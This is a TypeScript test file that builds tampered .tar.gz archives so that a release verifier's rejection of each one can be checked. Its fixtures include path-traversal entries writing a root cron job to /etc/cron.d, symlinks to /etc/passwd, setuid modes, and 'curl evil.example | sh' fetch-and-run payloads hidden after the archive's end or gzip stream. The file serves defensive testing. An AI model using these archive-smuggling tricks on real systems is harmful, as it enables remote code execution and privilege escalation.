// Hostile .tar.gz variants of the genuine archive: each changes what a tar reader could interpret
// differently from the assembler's own form (foreign headers, owners, modes, links, the end of the
// archive, the gzip framing), and the verifier must name the entry.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { gunzipSync, gzipSync } from 'node:zlib';
import { compareBytes } from '../../libs/release-kit/src/support/stable-json';
import { CaseFolders, HostileCase } from './corpus';
import {
  BLOCK,
  fileRecord,
  fixChecksum,
  gnuLongName,
  joinTar,
  makeHeader,
  octal,
  padded,
  paxHeader,
  parseTar,
  setField,
  TarRecord,
  withType,
} from './tar-edit';

const escape = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');

interface TarCase {
  name: string;
  /** The changed stream, made from a fresh copy of the genuine records. */
  make: (records: TarRecord[]) => Buffer;
  /** The gzip framing, when the case is about it (the default is one member of the whole stream). */
  gzip?: (tar: Buffer) => Buffer;
  expected: RegExp;
  kind?: string;
}

export function tarCases(folders: CaseFolders): HostileCase[] {
  const { release, top } = folders.genuine;
  const raw = gunzipSync(readFileSync(join(release, `${top}.tar.gz`)));
  const genuine = parseTar(raw);
  const mtime = parseInt(genuine[0].header.subarray(136, 147).toString('latin1'), 8);
  const S = `${top}/scripts/deployment/deploy.sh`;
  const R = `${top}/scripts/deployment/rollback.sh`;
  const D = `${top}/docs/README.md`;
  const at = (records: TarRecord[], name: string) => {
    const i = records.findIndex((r) => r.name === name || r.name === `${name}/`);
    if (i < 0) throw new Error(`the genuine tar has no ${name}`);
    return i;
  };
  /** The records with the one named changed. */
  const edit = (records: TarRecord[], name: string, change: (r: TarRecord) => TarRecord | TarRecord[]) => {
    const i = at(records, name);
    return joinTar([...records.slice(0, i), ...[change(records[i])].flat(), ...records.slice(i + 1)]);
  };
  const header = (name: string, field: Parameters<typeof setField>[1], value: string | Buffer) => (records: TarRecord[]) =>
    edit(records, name, (r) => ({ ...r, header: setField(r.header, field, value) }));
  /** The records with `extra` inserted where its name sorts. */
  const insert = (records: TarRecord[], extra: TarRecord) => {
    const key = (r: TarRecord) => r.name;
    const i = records.findIndex((r) => compareBytes(key(r), key(extra)) > 0);
    return joinTar(i < 0 ? [...records, extra] : [...records.slice(0, i), extra, ...records.slice(i)]);
  };
  const folderRecord = (path: string, mode = 0o755): TarRecord => ({
    name: `${path}/`,
    before: Buffer.alloc(0),
    header: makeHeader({ path: `${path}/`, type: 'Directory', mode, mtime }),
    data: Buffer.alloc(0),
  });
  const special =
    (type: string, extra: Partial<Parameters<typeof makeHeader>[0]> = {}) =>
    (records: TarRecord[]) =>
      edit(records, S, (r) => ({ ...r, header: makeHeader({ path: S, type, mode: 0o755, mtime, ...extra }), data: Buffer.alloc(0) }));

  const cases: TarCase[] = [
    // Foreign headers that readers apply differently.
    {
      name: 'a PAX path and a GNU long name before one header (swapped scripts)',
      make: (rs) =>
        edit(rs, S, (r) => ({ ...r, before: Buffer.concat([paxHeader('x', [['path', R]], mtime), gnuLongName('L', S, mtime)]) })),
      expected: new RegExp(`${escape(S)}: preceded by a GNU long name header .*PAX header naming it`),
    },
    {
      name: 'a GNU long name header naming another script',
      make: (rs) => edit(rs, S, (r) => ({ ...r, before: gnuLongName('L', R, mtime) })),
      expected: new RegExp(`${escape(S)}: preceded by a GNU long name header .*naming it "${escape(R)}"`),
    },
    {
      name: 'a GNU long name header naming a file outside the package',
      make: (rs) => edit(rs, S, (r) => ({ ...r, before: gnuLongName('L', '../../../etc/cron.d/evil', mtime) })),
      expected: new RegExp(`${escape(S)}: preceded by a GNU long name header`),
    },
    {
      name: 'a GNU long link name header',
      make: (rs) => edit(rs, S, (r) => ({ ...r, before: gnuLongName('K', '/etc/passwd', mtime) })),
      expected: new RegExp(`${escape(S)}: preceded by a GNU long link name header`),
    },
    {
      name: 'a global PAX header first, setting a path',
      make: (rs) => joinTar([{ ...rs[0], before: paxHeader('g', [['path', R]], mtime, 'pax_global_header') }, ...rs.slice(1)]),
      expected: new RegExp(`${escape(top)}/: preceded by a global PAX header .*setting path`),
    },
    {
      name: 'a global PAX header mid-stream, setting owner and mode',
      make: (rs) =>
        edit(rs, D, (r) => ({
          ...r,
          before: paxHeader(
            'g',
            [
              ['uid', '1000'],
              ['uname', 'mallory'],
            ],
            mtime,
            'pax_global_header',
          ),
        })),
      expected: new RegExp(`${escape(D)}: preceded by a global PAX header .*setting uid, uname`),
    },
    {
      name: 'a PAX header for a path that fits ustar',
      make: (rs) => edit(rs, S, (r) => ({ ...r, before: paxHeader('x', [['path', S]], mtime) })),
      expected: new RegExp(`${escape(S)}: its tar header is not the one the assembler writes \\(a PAX header`),
    },
    {
      name: 'a PAX path that renames the entry to another script',
      make: (rs) => edit(rs, S, (r) => ({ ...r, before: paxHeader('x', [['path', R]], mtime) })),
      expected: new RegExp(`${escape(R)}: its tar header is not the one the assembler writes`),
    },
    {
      name: 'a PAX mtime record',
      make: (rs) =>
        edit(rs, S, (r) => ({
          ...r,
          before: paxHeader(
            'x',
            [
              ['path', S],
              ['mtime', '1700000000.5'],
            ],
            mtime,
          ),
        })),
      expected: new RegExp(`${escape(S)}: its PAX header holds a PAX record "mtime"`),
    },
    {
      name: 'a PAX uid and uname record',
      make: (rs) =>
        edit(rs, S, (r) => ({
          ...r,
          before: paxHeader(
            'x',
            [
              ['uid', '0'],
              ['uname', 'root'],
            ],
            mtime,
          ),
        })),
      expected: new RegExp(`${escape(S)}: its PAX header holds a PAX record "uid"`),
    },
    {
      name: 'a PAX linkpath record',
      make: (rs) => edit(rs, S, (r) => ({ ...r, before: paxHeader('x', [['linkpath', '/etc/passwd']], mtime) })),
      expected: new RegExp(`${escape(S)}: its PAX header holds a PAX record "linkpath"`),
    },
    {
      name: 'a PAX size record smaller than the data',
      make: (rs) => edit(rs, S, (r) => ({ ...r, before: paxHeader('x', [['size', '10']], mtime) })),
      expected: new RegExp(`${escape(S)}: its tar header is not the one the assembler writes \\(a PAX header, size`),
    },
    {
      name: 'GNU sparse 0.1 PAX records (a map that reorders the data)',
      make: (rs) =>
        edit(rs, S, (r) => ({
          ...r,
          before: paxHeader(
            'x',
            [
              ['GNU.sparse.size', '1024'],
              ['GNU.sparse.numblocks', '2'],
              ['GNU.sparse.map', '512,512,0,512'],
            ],
            mtime,
          ),
        })),
      expected: new RegExp(`${escape(S)}: its PAX header holds a PAX record "GNU.sparse.size"`),
    },
    {
      name: 'GNU sparse 1.0 PAX records (the real name in the PAX header)',
      make: (rs) =>
        edit(rs, S, (r) => ({
          ...r,
          before: paxHeader(
            'x',
            [
              ['GNU.sparse.major', '1'],
              ['GNU.sparse.minor', '0'],
              ['GNU.sparse.name', R],
              ['GNU.sparse.realsize', '4096'],
            ],
            mtime,
          ),
        })),
      expected: new RegExp(`${escape(S)}: its PAX header holds a PAX record "GNU.sparse.major"`),
    },
    {
      name: 'a GNU sparse file (type S)',
      make: (rs) => edit(rs, S, (r) => ({ ...r, header: withType(r.header, 'S') })),
      expected: new RegExp(`${escape(S)}: a GNU sparse file at offset`),
    },
    {
      name: 'two PAX headers in a row',
      make: (rs) =>
        edit(rs, S, (r) => ({ ...r, before: Buffer.concat([paxHeader('x', [['path', S]], mtime), paxHeader('x', [['path', R]], mtime)]) })),
      expected: new RegExp(`${escape(S)}: two PAX headers in a row`),
    },
    {
      name: 'a PAX header of 1 MiB',
      make: (rs) => edit(rs, S, (r) => ({ ...r, before: paxHeader('x', [['comment', 'x'.repeat(1 << 20)]], mtime) })),
      expected: /a PAX header of \d+ bytes at offset \d+/,
    },
    {
      name: 'a PAX path with a ../ part',
      make: (rs) => edit(rs, S, (r) => ({ ...r, before: paxHeader('x', [['path', `${top}/../../etc/cron.d/evil`]], mtime) })),
      expected: /\.\.\/\.\.\/etc\/cron\.d\/evil: unsafe entry name/,
    },
    {
      name: 'a PAX header right before the end blocks',
      make: (rs) => joinTar(rs, Buffer.concat([paxHeader('x', [['path', `${top}/scripts/evil.sh`]], mtime), Buffer.alloc(2 * BLOCK)])),
      expected: /a PAX header followed by the end of the archive/,
    },
    {
      name: 'a GNU volume label first',
      make: (rs) => joinTar([{ ...rs[0], before: withType(makeHeader({ path: 'VOLUME', mtime }), 'V') }, ...rs.slice(1)]),
      expected: /VOLUME: a GNU volume label at offset 0/,
    },
    {
      name: 'a GNU multi-volume continuation',
      make: (rs) => edit(rs, S, (r) => ({ ...r, header: withType(r.header, 'M') })),
      expected: new RegExp(`${escape(S)}: a GNU multi-volume continuation`),
    },
    // The end of the archive.
    {
      name: 'a lone zero block before an entry (GNU tar stops there)',
      make: (rs) => edit(rs, S, (r) => ({ ...r, before: Buffer.alloc(BLOCK) })),
      expected: new RegExp(`a lone zero block at offset \\d+, followed by the entry ${escape(S)}`),
    },
    {
      name: 'a lone zero block at the end',
      make: (rs) => joinTar(rs, Buffer.alloc(BLOCK)),
      expected: /a lone zero block at offset \d+ ends the archive/,
    },
    {
      name: 'an entry after the end-of-archive blocks',
      make: (rs) =>
        joinTar(
          rs,
          Buffer.concat([
            Buffer.alloc(2 * BLOCK),
            joinTar([fileRecord(`${top}/scripts/evil.sh`, 'curl evil.example | sh\n', mtime, 0o755)]),
          ]),
        ),
      expected: /spacetime-vr-v[\d.]+\/scripts\/evil\.sh: an entry after the end-of-archive blocks/,
    },
    {
      name: 'garbage after the end-of-archive blocks',
      make: (rs) => joinTar(rs, Buffer.concat([Buffer.alloc(2 * BLOCK), Buffer.from('not a tar header, just bytes\n'.repeat(40))])),
      expected: /data after the end-of-archive blocks, at offset \d+/,
    },
    {
      name: 'zeros past the 10240-byte record after the end',
      make: (rs) => joinTar(rs, Buffer.alloc(2 * BLOCK + 40 * BLOCK)),
      expected: /zero bytes after the end-of-archive blocks, past the 10240-byte record/,
    },
    {
      name: 'no end-of-archive blocks',
      make: (rs) => joinTar(rs, Buffer.alloc(0)),
      expected: /cannot be read: unexpected end of file \(no end-of-archive blocks\)/,
    },
    {
      name: 'zero bytes after the last gzip member',
      make: (rs) => joinTar(rs),
      gzip: (tar) => Buffer.concat([gzipSync(tar), Buffer.alloc(100)]),
      expected: /100 bytes after the last gzip member/,
    },
    {
      name: 'text after the last gzip member',
      make: (rs) => joinTar(rs),
      gzip: (tar) => Buffer.concat([gzipSync(tar), Buffer.from('#!/bin/sh\ncurl evil.example | sh\n')]),
      expected: /cannot be read: incorrect header check/,
    },
    {
      name: 'a header claiming more data than the archive holds',
      make: (rs) => edit(rs, rs[rs.length - 1].name, (r) => ({ ...r, header: setField(r.header, 'size', octal(10 << 20, 'size')) })),
      expected: /cannot be read: unexpected end of file inside /,
    },
    // Header fields the assembler fixes.
    {
      name: 'owner uid 1000',
      make: header(S, 'uid', octal(1000, 'uid')),
      expected: new RegExp(`${escape(S)}: its tar header is not .*\\(uid\\)`),
    },
    {
      name: 'group gid 1000',
      make: header(S, 'gid', octal(1000, 'gid')),
      expected: new RegExp(`${escape(S)}: its tar header is not .*\\(gid\\)`),
    },
    {
      name: 'owner name root',
      make: header(S, 'uname', 'root'),
      expected: new RegExp(`${escape(S)}: its tar header is not .*\\(owner name\\)`),
    },
    {
      name: 'group name wheel',
      make: header(S, 'gname', 'wheel'),
      expected: new RegExp(`${escape(S)}: its tar header is not .*\\(group name\\)`),
    },
    {
      name: 'mode 0777 on a document',
      make: header(D, 'mode', octal(0o777, 'mode')),
      expected: new RegExp(`${escape(D)}: mode 0777 is not by rule`),
    },
    {
      name: 'mode 0644 on a script',
      make: header(S, 'mode', octal(0o644, 'mode')),
      expected: new RegExp(`${escape(S)}: mode 0644 is not by rule`),
    },
    {
      name: 'setuid 04755 on a script',
      make: header(S, 'mode', octal(0o4755, 'mode')),
      expected: new RegExp(`${escape(S)}: mode 4755 is not by rule`),
    },
    {
      name: 'mode 0600 on a document',
      make: header(D, 'mode', octal(0o600, 'mode')),
      expected: new RegExp(`${escape(D)}: mode 0600 is not by rule`),
    },
    {
      name: 'folder mode 0700',
      make: header(`${top}/scripts`, 'mode', octal(0o700, 'mode')),
      expected: new RegExp(`${escape(top)}/scripts/: mode 0700 is not by rule \\(folders 0755\\)`),
    },
    {
      name: 'an mtime that differs from the others',
      make: header(D, 'mtime', octal(mtime + 3600, 'mtime')),
      expected: new RegExp(`${escape(D)}: its mtime \\d+ is not the archive's one mtime`),
    },
    {
      name: 'a wrong header checksum',
      make: (rs) =>
        edit(rs, S, (r) => {
          const h = Buffer.from(r.header);
          h.write('000001 \0', 148, 'latin1');
          return { ...r, header: h };
        }),
      expected: new RegExp(`${escape(S)}: the tar header at offset \\d+ has a wrong checksum`),
    },
    {
      name: 'a checksum written with seven digits',
      make: (rs) =>
        edit(rs, S, (r) => {
          const h = fixChecksum(Buffer.from(r.header));
          const sum = parseInt(h.subarray(148, 154).toString('latin1'), 8);
          h.write(`${sum.toString(8).padStart(7, '0')}\0`, 148, 'latin1');
          return { ...r, header: h };
        }),
      expected: new RegExp(`${escape(S)}: its tar header is not .*\\(checksum\\)`),
    },
    {
      name: 'a mode field in another octal layout',
      make: header(S, 'mode', '0000755\0'),
      expected: new RegExp(`${escape(S)}: its tar header is not .*\\(mode\\)`),
    },
    {
      name: 'a size field in base-256',
      make: (rs) =>
        edit(rs, S, (r) => {
          const size = parseInt(r.header.subarray(124, 135).toString('latin1'), 8);
          const field = Buffer.alloc(12);
          field[0] = 0x80;
          field.writeUInt32BE(size, 8);
          return { ...r, header: setField(r.header, 'size', field) };
        }),
      expected: new RegExp(`${escape(S)}: its tar header is not .*\\(size\\)`),
    },
    {
      name: 'GNU magic "ustar  "',
      make: (rs) => edit(rs, S, (r) => ({ ...r, header: setField(setField(r.header, 'magic', 'ustar '), 'version', ' \0') })),
      expected: new RegExp(`${escape(S)}: its tar header is not .*\\(magic, version\\)`),
    },
    {
      name: 'a ustar version "  "',
      make: header(S, 'version', '  '),
      expected: new RegExp(`${escape(S)}: its tar header is not .*\\(version\\)`),
    },
    {
      name: 'type flag NUL (an old regular file)',
      make: header(S, 'type', '\0'),
      expected: new RegExp(`${escape(S)}: its tar header is not .*\\(type flag\\)`),
    },
    {
      name: 'type flag 7 (a contiguous file)',
      make: header(S, 'type', '7'),
      expected: new RegExp(`${escape(S)}: its tar header is not .*\\(type flag\\)`),
    },
    {
      name: 'a path split into prefix and name that fits the name field',
      make: (rs) =>
        edit(rs, S, (r) => ({ ...r, header: setField(setField(r.header, 'name', 'deploy.sh'), 'prefix', `${top}/scripts/deployment`) })),
      expected: new RegExp(`${escape(S)}: its tar header is not .*\\(name, prefix\\)`),
    },
    {
      name: 'bytes after the NUL that ends the name',
      make: header(S, 'name', `${S}\0/../../evil.sh`),
      expected: new RegExp(`${escape(S)}: its tar header is not .*\\(name\\)`),
    },
    {
      name: 'a link name on a regular file',
      make: header(S, 'linkname', '/etc/passwd'),
      expected: new RegExp(`${escape(S)}: its tar header is not .*\\(link name\\)`),
    },
    {
      name: 'a device number on a regular file',
      make: header(S, 'devmajor', octal(8, 'devmajor')),
      expected: new RegExp(`${escape(S)}: its tar header is not .*\\(device major\\)`),
    },
    {
      name: 'non-zero padding after the data',
      make: (rs) =>
        edit(rs, S, (r) => {
          const data = Buffer.from(r.data);
          data[data.length - 1] = 0x0a;
          return { ...r, data };
        }),
      expected: new RegExp(`${escape(S)}: non-zero bytes in the padding after its data`),
    },
    {
      name: 'a folder entry with data',
      make: (rs) =>
        edit(rs, `${top}/scripts`, (r) => ({
          ...r,
          header: setField(r.header, 'size', octal(BLOCK, 'size')),
          data: padded(Buffer.from('hidden\n')),
        })),
      expected: new RegExp(`${escape(top)}/scripts/: a folder entry with 512 bytes of data`),
    },
    // Entries a package never holds.
    { name: 'a symlink', make: special('SymbolicLink', { linkpath: '/etc/passwd' }), expected: new RegExp(`${escape(S)}: is a symlink`) },
    { name: 'a hard link', make: special('Link', { linkpath: R }), expected: new RegExp(`${escape(S)}: is a hard link`) },
    { name: 'a character device', make: special('CharacterDevice'), expected: new RegExp(`${escape(S)}: is a device`) },
    { name: 'a block device', make: special('BlockDevice'), expected: new RegExp(`${escape(S)}: is a device`) },
    { name: 'a FIFO', make: special('FIFO'), expected: new RegExp(`${escape(S)}: is a fifo`) },
    {
      name: 'a duplicate entry whose second copy differs',
      make: (rs) => edit(rs, S, (r) => [r, fileRecord(S, 'curl evil.example | sh\n', mtime, 0o755)]),
      expected: new RegExp(`${escape(S)}: appears twice`),
    },
    {
      name: 'a ../ path',
      make: (rs) => insert(rs, fileRecord(`${top}/../../etc/cron.d/evil`, '* * * * * root sh\n', mtime)),
      expected: /spacetime-vr-v[\d.]+\/\.\.\/\.\.\/etc\/cron\.d\/evil: unsafe entry name \(a "\.\." part\)/,
    },
    {
      name: 'an absolute path',
      make: (rs) => joinTar([...rs, fileRecord('/etc/cron.d/evil', '* * * * * root sh\n', mtime)]),
      expected: /\/etc\/cron\.d\/evil: unsafe entry name \(an absolute path\)/,
    },
    {
      name: 'an entry outside the top folder',
      make: (rs) => joinTar([...rs, fileRecord('spacetime-vr-v9.9.9/evil.sh', 'echo\n', mtime, 0o755)]),
      expected: /spacetime-vr-v9\.9\.9\/evil\.sh: is outside the top folder/,
    },
    {
      name: 'a file beside the top folder',
      make: (rs) => joinTar([...rs, fileRecord('evil.sh', 'echo\n', mtime, 0o755)]),
      expected: /evil\.sh: is outside the top folder/,
    },
    {
      name: 'entries out of order',
      make: (rs) => {
        const i = at(rs, R);
        const j = at(rs, S);
        const swapped = [...rs];
        [swapped[i], swapped[j]] = [swapped[j], swapped[i]];
        return joinTar(swapped);
      },
      expected: new RegExp(`${escape(S)}: out of order`),
    },
    {
      name: 'a folder that no file implies',
      make: (rs) => insert(rs, folderRecord(`${top}/scripts/empty`)),
      expected: new RegExp(`${escape(top)}/scripts/empty/: a folder that no file implies`),
    },
    {
      name: 'an extra section folder that MANIFEST.json does not name',
      make: (rs) => insert(rs, folderRecord(`${top}/extras`)),
      expected: new RegExp(`${escape(top)}/extras/: a folder that no file implies and no section names`),
    },
    {
      name: 'a folder entry missing',
      make: (rs) => {
        const i = at(rs, `${top}/scripts/deployment`);
        return joinTar([...rs.slice(0, i), ...rs.slice(i + 1)]);
      },
      expected: new RegExp(`${escape(top)}/scripts/deployment/: has no folder entry`),
    },
  ];

  return cases.map((c) => {
    const tar = c.make(genuine.map((r) => ({ ...r })));
    const file = folders.archive(`tar ${c.name}`, 'tar.gz', (c.gzip ?? gzipSync)(tar));
    return { kind: c.kind ?? 'tar', name: c.name, args: [file], expected: c.expected };
  });
}
